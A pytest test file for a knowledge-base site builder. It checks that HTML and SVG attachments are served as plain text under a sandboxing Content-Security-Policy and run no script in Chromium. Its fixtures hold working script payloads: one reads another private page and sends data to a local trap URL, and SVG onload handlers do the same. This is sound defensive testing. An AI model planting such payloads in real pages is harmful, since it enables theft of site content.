"""HTML and SVG attachments never run in the site's origin, in a real Chromium: they are published as text, and
`kb site serve` sandboxes every attachment (a Content-Security-Policy header), whatever a file claims to be."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from browser import Tab, browser_fixture, serve, tab_fixture  # noqa: F401 (fixtures)
from conftest import run_kb, write_entry
from test_site_hostile import Trap

from kb.store.knowledge_base import KnowledgeBase

ENTRY = "2025-11-05-attached-e50003"
OTHER = "2025-11-06-private-e50004"


def report(trap: str) -> str:
    """An HTML report that tries to read another page of the site and send it away, and to be noticed."""
    return (f"<html><head><title>report</title></head><body><script>document.title='pwned';"
            f"fetch('../{OTHER}.html').then(r => r.text()).then(t => fetch('{trap}read?' + t.length));"
            f"fetch('{trap}direct');</script><img src='{trap}img.png'><p>tlparse report</p></body></html>")  # fmt: skip


def drawing(trap: str) -> str:
    return (f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"document.title='pwned'\">"
            f"<script>document.title='pwned';fetch('{trap}svg')</script><circle r='4'/></svg>")  # fmt: skip


class Site:
    def __init__(self, url: str, out: Path, trap: Trap) -> None:
        self.url, self.out, self.trap = url, out, trap


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    with Trap() as trap:
        top = tmp_path_factory.mktemp("attachments")
        kb, _ = KnowledgeBase.init(top / "knowledge-base")
        folder = kb.entries_path / ENTRY
        folder.mkdir()
        (folder / "tlparse.html").write_text(report(trap.url))
        (folder / "figure.svg").write_text(drawing(trap.url))
        (folder / "notes.txt").write_text("plain notes\n")
        attachments = [
            {"path": f"{ENTRY}/{name}", "role": "report"} for name in ("tlparse.html", "figure.svg", "notes.txt")
        ]
        write_entry(kb, ENTRY, title="Attached", recorded="2025-11-05T09:00:00Z", status="completed",
                    attachments=attachments)  # fmt: skip
        write_entry(kb, OTHER, title="Private words", recorded="2025-11-06T09:00:00Z", status="completed")
        out = top / "out"
        result = run_kb("--kb", str(kb.root), "site", "build", "--out", str(out), cwd=top)
        assert result.returncode == 0, result.stderr
        with serve(out) as url:
            yield Site(url, out, trap)


def test_active_attachments_are_published_as_text_and_run_nothing(site: Site, tab: Tab) -> None:
    page = tab.page
    page.goto(f"{site.url}entries/{ENTRY}.html")
    hrefs = page.locator("section.attachments a").evaluate_all("links => links.map(a => a.getAttribute('href'))")
    assert hrefs == [f"{ENTRY}/tlparse.html.txt", f"{ENTRY}/figure.svg.txt", f"{ENTRY}/notes.txt"]
    assert not (site.out / "entries" / ENTRY / "tlparse.html").exists()
    for href in hrefs:
        response = page.goto(f"{site.url}entries/{href}")
        assert response is not None and response.status == 200, href
        assert response.headers["content-type"].startswith("text/plain"), href
        assert "sandbox" in response.headers["content-security-policy"]
        page.wait_for_load_state("networkidle")
        assert page.title() != "pwned", href
    assert "fetch(" in page.goto(f"{site.url}entries/{hrefs[0]}").text()  # shown as the text it is
    assert site.trap.hits == []
    assert tab.foreign_requests(site.url) == []


@pytest.mark.parametrize("name", ["copied.html", "copied.svg"])
def test_kb_site_serve_sandboxes_an_attachment_that_would_be_a_page(site: Site, tab: Tab, name: str) -> None:
    """A file of the attachment folder served as HTML or SVG (copied by hand, or by an older kb) runs nothing."""
    text = report(site.trap.url) if name.endswith(".html") else drawing(site.trap.url)
    (site.out / "entries" / ENTRY / name).write_text(text)
    response = tab.page.goto(f"{site.url}entries/{ENTRY}/{name}")
    assert response is not None and response.status == 200
    assert response.headers["content-security-policy"].startswith("sandbox;")
    tab.page.wait_for_load_state("networkidle")
    assert tab.page.title() != "pwned"
    assert site.trap.hits == []
    entry_page = tab.page.goto(f"{site.url}entries/{ENTRY}.html")
    assert entry_page is not None and "content-security-policy" not in entry_page.headers  # kb's pages: their meta
